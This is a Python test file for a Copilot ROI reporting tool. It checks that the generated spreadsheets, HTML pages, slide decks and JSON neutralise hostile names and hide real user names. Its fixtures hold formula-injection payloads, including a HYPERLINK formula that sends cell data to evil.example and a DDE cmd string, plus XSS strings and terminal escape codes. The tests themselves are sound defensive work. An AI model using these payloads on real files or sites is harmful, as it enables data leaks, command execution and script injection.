"""Safe outputs in every business-case file: neutralised formulas, escaped HTML, no real names.

Hostile names from the shared checklist go in through a usage export (and the customer and
partner names); they must come out as text in the XLSX (a leading ``'``, string cells), escaped
in the HTML, and, with pseudonymisation on, real user names appear in no file at all.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from copilot_roi.business.bundle import CASE_NAME, HTML_NAME, PPTX_NAME, SCENARIO_NAME, XLSX_NAME, render_all
from copilot_roi.business.case import BusinessCase, build_case
from copilot_roi.safe_cells import FORMULA_TRIGGERS
from copilot_roi.usage import IngestOptions, UsageDataset, ingest_files, ingest_paths
from copilot_roi.usage.analytics import actor_kind
from copilot_roi.value.scenario import Scenario, scenario_template

REPO = Path(__file__).resolve().parents[2]
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\tTabbed",
    "  =1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
)
HOSTILE_PLUGINS = ("=EVIL()", "<b>Defender</b>")
HOSTILE_LINES = ('=HYPERLINK("http://evil.example/?line","x")', "<script>alert('line')</script>")


def hostile_scenario() -> Scenario:
    """The template with other benefit and cost lines whose names and sources are hostile text."""
    data = scenario_template("expected").model_dump()
    data["other_benefits"] = [{"name": HOSTILE_LINES[0], "per_year": [1_000.0], "source": HOSTILE_LINES[1]}]
    data["other_costs"] = [{"name": HOSTILE_LINES[1], "one_off": 10.0, "per_year": [], "source": "@SUM(1)"}]
    return Scenario.model_validate(data)


def hostile_usage() -> UsageDataset:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(
        ["Date", "Units used", "Initiated by", "Session ID", "Category", "Type", "Copilot experience",
         "Plugins used"]
    )  # fmt: skip
    for i, name in enumerate(HOSTILE_NAMES):
        writer.writerow(
            [f"Sep 10, {8 + i % 4:02d}:{i:02d} AM", f"{1.5 + i / 10:.1f}", name, f"s{i}", "Prompt", "User",
             "Standalone", HOSTILE_PLUGINS[i % 2]]
        )  # fmt: skip
    data = buffer.getvalue().encode()
    return ingest_files([("hostile.csv", data)], IngestOptions(as_of=dt.date(2026, 10, 1)))


@pytest.fixture(scope="module")
def hostile_files() -> dict[str, bytes]:
    case = build_case(
        hostile_scenario(),
        usage=hostile_usage(),
        customer_name="=cmd|' /C calc'!A0 <script>alert('c')</script>",
        partner_name="<img src=x onerror=alert('p')>",
        pseudonymise=False,
        draws=200,
    )
    return render_all(case)


def workbook_texts(data: bytes) -> list[tuple[str, str, object, str]]:
    """(sheet, cell, value, data type) of every non-formula cell."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None and cell.data_type != "f":
                    found.append((sheet.title, cell.coordinate, cell.value, cell.data_type))
    return found


def test_xlsx_text_that_a_spreadsheet_would_run_is_neutralised(hostile_files: dict[str, bytes]) -> None:
    cells = workbook_texts(hostile_files[XLSX_NAME])
    texts = [str(v) for _, _, v, t in cells if t == "s"]
    for value in texts:
        assert not value.lstrip(" ").startswith(FORMULA_TRIGGERS), value
    for name in (*HOSTILE_NAMES, *HOSTILE_PLUGINS, *HOSTILE_LINES, "@SUM(1)"):
        runs = name.lstrip(" ").startswith(FORMULA_TRIGGERS)
        assert ("'" + name if runs else name) in texts, name  # there, as inert text
    assert any("=cmd|' /C calc'!A0" in t for t in texts)  # the partner/customer line, as a string


def test_xlsx_numbers_stay_numbers_including_negatives(hostile_files: dict[str, bytes]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(hostile_files[XLSX_NAME]), data_only=True)
    usage = book["Usage"]
    numbers = [
        c.value for row in usage.iter_rows() for c in row if c.data_type == "n" and c.value is not None
    ]
    assert numbers and all(isinstance(n, int | float) for n in numbers)
    sensitivity = book["Sensitivity"]
    realisation = next(row for row in sensitivity.iter_rows() if row[0].value == "Realisation rate")
    npv_at_low = realisation[3]
    assert npv_at_low.data_type == "n" and isinstance(npv_at_low.value, float) and npv_at_low.value < 0
    cash = book["Cash flow"]
    # Month 1 capacity cost, a number (whole for some plans and teams: openpyxl reads it as int).
    assert cash["B14"].data_type == "n" and isinstance(cash["B14"].value, int | float)


def test_a_customer_name_alone_cannot_start_a_formula() -> None:
    case = build_case(scenario_template("expected"), customer_name="@SUM(1+1)*cmd", draws=100)
    texts = [str(v) for _, _, v, t in workbook_texts(render_all(case)[XLSX_NAME]) if t == "s"]
    assert "'@SUM(1+1)*cmd, prepared" in " ".join(texts)


def test_html_escapes_every_hostile_string(hostile_files: dict[str, bytes]) -> None:
    page = hostile_files[HTML_NAME].decode()
    body = page.split("</script>", 1)[1]  # past the inlined plotly.js bundle
    for raw in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<b>Defender</b>",
        HOSTILE_LINES[1],
    ):
        assert raw not in body
    assert html.escape(HOSTILE_LINES[1]) in body  # the line's name, shown as text in the finance view
    assert html.escape("<script>alert(1)</script>") in body
    assert html.escape("<img src=x onerror=alert('p')>", quote=True) in body
    assert re.search(r"<img|<[^>]*\bon\w+=|href=[\"']?javascript:", body, re.IGNORECASE) is None
    assert "<script>alert(" not in page


def test_pptx_and_json_carry_names_as_inert_text(hostile_files: dict[str, bytes]) -> None:
    with zipfile.ZipFile(io.BytesIO(hostile_files[PPTX_NAME])) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".xml"))
    assert "<script>" not in xml and "&lt;script&gt;" in xml
    assert "&lt;script&gt;alert(&apos;line&apos;)" in xml or "&lt;script&gt;alert('line')" in xml
    json.loads(hostile_files[SCENARIO_NAME])  # valid JSON; names never go into the scenario


# --- pseudonymisation --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def sample_usage() -> UsageDataset:
    paths = [
        REPO / "sample_data" / "CapacityUsage.xlsx",
        REPO / "sample_data" / "CapacityUsage_2026-10-01_EU.csv",
    ]
    return ingest_paths(paths, IngestOptions(as_of=dt.date(2026, 11, 21)))


def real_names(usage: UsageDataset) -> list[str]:
    people = usage.frame.loc[actor_kind(usage.frame) == "Person", "user"].astype(str).unique()
    # Two-letter names such as "NA" would match unrelated bytes; everything else is checked.
    return sorted(n for n in people if len(n.encode()) >= 5)


def spellings(name: str) -> set[bytes]:
    """How a name can be stored: raw, XML/HTML-escaped, JSON-escaped."""
    forms = {
        name,
        html.escape(name, quote=True),
        html.escape(name, quote=False),
        name.replace("'", "&apos;"),
        json.dumps(name)[1:-1],
    }
    return {f.encode() for f in forms}


def file_texts(files: dict[str, bytes]) -> dict[str, bytes]:
    """Every file's bytes, office files unzipped (sharedStrings, sheets, slides, charts)."""
    out = {}
    for name, data in files.items():
        if name.endswith((".xlsx", ".pptx")):
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                for member in archive.namelist():
                    out[f"{name}:{member}"] = archive.read(member)
        else:
            out[name] = data
    return out


def build_files(usage: UsageDataset, pseudonymise: bool) -> dict[str, bytes]:
    case: BusinessCase = build_case(
        scenario_template("expected"),
        usage=usage,
        pseudonymise=pseudonymise,
        pseudonym_key=b"k" * 32,
        draws=200,
    )
    return render_all(case)


def test_pseudonymised_files_hold_no_real_name(sample_usage: UsageDataset) -> None:
    names = real_names(sample_usage)
    assert len(names) >= 20 and "Ben Heppard" in names
    texts = file_texts(build_files(sample_usage, pseudonymise=True))
    leaks = [
        (member, name)
        for name in names
        for member, data in texts.items()
        for form in spellings(name)
        if form in data
    ]
    assert leaks == []
    assert any(b"User " in data for member, data in texts.items() if "sharedStrings" in member)


def test_pseudonymised_case_keeps_agent_product_names(sample_usage: UsageDataset) -> None:
    # Agents are not people: their product names stay in the usage tables (issue 12).
    case = build_case(
        scenario_template("expected"), usage=sample_usage, pseudonymise=True, pseudonym_key=b"k" * 32,
        draws=50,
    )  # fmt: skip
    assert case.usage is not None
    shown = set(case.usage.by_user["name"].astype(str))
    assert "Phishing Triage Agent" in shown
    assert "Ben Heppard" not in shown and any(n.startswith("User ") for n in shown)


def test_a_file_named_after_a_user_is_renamed_when_pseudonymising() -> None:
    usage = hostile_usage()
    files = [replace(f, file_name="export of javascript:alert(1).csv") for f in usage.quality.files]
    named = replace(usage, quality=replace(usage.quality, files=files))
    case = build_case(scenario_template("expected"), usage=named, pseudonymise=True, draws=50)
    assert case.usage is not None
    assert "javascript:alert(1)" not in " ".join(case.usage.file_names)
    assert any("User " in f for f in case.usage.file_names)


def test_the_leak_check_finds_names_when_pseudonymisation_is_off(sample_usage: UsageDataset) -> None:
    """The scan above can fail: without pseudonymisation the names are in the workbook and the page."""
    texts = file_texts(build_files(sample_usage, pseudonymise=False))
    found = {name for name in real_names(sample_usage) for data in texts.values() if name.encode() in data}
    assert "Ben Heppard" in found
    assert any(b"Ben Heppard" in d for m, d in texts.items() if m.startswith(XLSX_NAME))
    assert b"Ben Heppard" in texts[HTML_NAME]


# --- chart data embedded in the deck, control characters (issue 23 item 5) -------------------------

EVIL_AGENT = '=HYPERLINK("http://evil.example/","Click")&"'
CONTROL_NAME = "Triage\x00 agent\x07 \x1b[31mred\x1b[0m\x7f\x9b"
RAW_CONTROLS = [bytes([b]) for b in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F)]


def agent_scenario(*names: str) -> Scenario:
    """The template with agent lines big enough to lead the tornado (their labels become chart data)."""
    data = scenario_template("expected").model_dump()
    wide = {
        "scu_per_run": {"low": 0.1, "high": 2.0},
        "analyst_minutes_avoided_per_run": {"low": 5.0, "high": 60.0},
    }
    data["agents"] = [
        {"agent": name, "runs_per_month": 20_000.0 - i, "scu_per_run": 0.5,
         "analyst_minutes_avoided_per_run": 30.0, "ranges": wide}
        for i, name in enumerate(names)
    ]  # fmt: skip
    return Scenario.model_validate(data)


def embedded_workbooks(deck: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(deck)) as archive:
        return {n: archive.read(n) for n in archive.namelist() if n.endswith(".xlsx")}


@pytest.fixture(scope="module")
def chart_case_files() -> dict[str, bytes]:
    scenario = agent_scenario(EVIL_AGENT, CONTROL_NAME)
    case = build_case(
        scenario,
        customer_name="Contoso\x00\x07\x1b]0;owned\x07",
        partner_name="Fabrikam\x1b[2J\r\n",
        compared=[("Base", scenario), (EVIL_AGENT, scenario)],
        draws=100,
    )
    assert any(b.label.startswith(EVIL_AGENT) for b in case.top_assumptions)  # the label is charted
    return render_all(case)


def test_deck_chart_data_holds_no_formula(chart_case_files: dict[str, bytes]) -> None:
    books = embedded_workbooks(chart_case_files[PPTX_NAME])
    assert len(books) >= 4  # cost over time, value by role, tornado, comparison
    labels: list[str] = []
    for name, data in books.items():
        with zipfile.ZipFile(io.BytesIO(data)) as book:
            sheets = [book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in sheet and b"<f " not in sheet for sheet in sheets), name
        assert all(b"<hyperlink" not in sheet for sheet in sheets), name
        for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                    if cell.data_type == "s":
                        labels.append(str(cell.value))
    assert any(label.startswith("'" + EVIL_AGENT) for label in labels)  # there, as inert text
    assert not any(label.lstrip(" ").startswith(FORMULA_TRIGGERS) for label in labels)
    months = [
        cell.value
        for data in books.values()
        for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets
        for row in sheet.iter_rows(min_col=1, max_col=1)
        for cell in row
        if cell.data_type == "n"
    ]
    assert 1 in months  # the month axes are numbers (XY charts), not text


def test_no_raw_control_character_reaches_any_file(chart_case_files: dict[str, bytes]) -> None:
    members = file_texts(chart_case_files)
    for name, data in list(members.items()):
        if name.endswith(".xlsx"):  # a workbook inside the deck
            with zipfile.ZipFile(io.BytesIO(data)) as book:
                members |= {f"{name}:{n}": book.read(n) for n in book.namelist()}
    texts = {
        name: data
        for name, data in members.items()
        if name.endswith((".xml", ".rels", ".html", ".json")) and not name.endswith(".xlsx")
    }
    assert any(name.endswith("slide1.xml") for name in texts)
    page = texts[HTML_NAME].split(b"</script>", 1)[1]  # past the inlined plotly.js bundle
    for name, data in {**texts, HTML_NAME: page}.items():
        # scenario.json and case.json are data that must round-trip: JSON escapes C0 (\u0007); DEL may
        # stay as data.
        checked = (
            [c for c in RAW_CONTROLS if c != b"\x7f"] if name in (SCENARIO_NAME, CASE_NAME) else RAW_CONTROLS
        )
        found = [c for c in checked if c in data]
        assert found == [], (name, found)
    assert b"Triage agent [31mred[0m" in page  # the name survives, without its control characters
    assert "\u009b".encode() not in page


def test_control_characters_leave_csv_and_workbook_cells() -> None:
    from copilot_roi.safe_cells import neutralise_frame, strip_control

    frame = pd.DataFrame({"user": [CONTROL_NAME, "\x00=1+1", "ok\r\n"], "units": [1.0, -2.0, 3.0]})
    text = neutralise_frame(frame).to_csv(index=False, lineterminator="\n")
    assert [c for c in RAW_CONTROLS if c.decode() in text] == []
    assert "Triage agent [31mred[0m" in text and "'=1+1" in text and "-2.0" in text
    assert strip_control("a\tb\nc") == "a\tb\nc"  # tab and newline mean something in text
